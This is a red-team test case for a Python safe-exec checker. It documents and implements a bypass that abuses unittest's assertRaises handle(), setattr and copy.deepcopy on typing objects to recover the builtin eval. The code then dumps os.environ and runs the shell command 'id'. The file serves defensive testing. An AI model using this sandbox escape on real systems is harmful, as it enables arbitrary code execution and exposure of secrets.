# expect: reject builtin
# why: twenty-third red team, round d: unittest's assertRaises/assertWarns context handle(name, args, kwargs) splats a dict the program built into a **kwargs method whose keys setattr then uses: such keys are no judged source once handle is named
# line: 37
# goal: the REAL builtin `eval` as a value; prints os.environ and runs `id` through it.
# mechanism: (1)+(3) a library function that splats a run-time dict into a call:
#   unittest's _AssertRaisesContext.handle(name, args, kwargs) -- a PUBLIC method of the
#   context manager that TestCase.assertRaises(exc) hands back -- does
#   `callable_obj, *args = args; with self: callable_obj(*args, **kwargs)`. So
#   cm.handle("assertRaises", [o.set], {"__reduce_ex__": red}) calls the program's
#   `def set(self, **kw)` with a keyword whose NAME is run-time text. set() then does
#   `for k, v in kw.items(): setattr(self, k, v)` -- planting __reduce_ex__ in the
#   instance dict; copy.deepcopy runs it and rebuilds typing.Literal["eval"] with
#   _name="__builtins__"; the second deepcopy's _GenericAlias.__reduce__ hands back
#   operator.getitem(typing's __builtins__, "eval") (round23b ok_07's chain).
# rule slipped: builtin (names.c wk_check_guarded -> kwargs_key, commit 87d561a: keys of
#   a method's own **kwargs are a judged source "when keywords are written"). The
#   review behind keywords_written()/kw_holders listed Thread/Timer, partial(method),
#   contextmanager, LoggerAdapter, new_class/prepare_class -- but not unittest's
#   assertRaises/assertWarns context: handle(name, args, kwargs) takes the kwargs
#   dict POSITIONALLY and splats it. No `**`, no `kwargs=` keyword, no kw_holders
#   identifier appears in this program, so keywords_written() holds and the loop
#   target k counts as judged (may_dunder false). (Also reachable through
#   assertWarns(...).handle and assertRaisesRegex/assertWarnsRegex.)
# verify: safe-exec-check rc=0; python3 prints <built-in function eval>, environ(...), uid=...
import copy
import typing
import unittest


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Opts:
    def set(self, **kw):
        for k, v in kw.items():
            setattr(self, k, v)
        raise ValueError("done")


class T(unittest.TestCase):
    def runTest(self):
        pass


o = Opts()
cm = T().assertRaises(ValueError)
cm.handle("assertRaises", [o.set], {"--reduce-ex--".replace("-", "_"): red})
ev = copy.deepcopy(copy.deepcopy(o))
print(ev)
print(ev("__import__('os').environ"))
print(ev("__import__(\x27os\x27).popen(\x27id\x27).read()"))
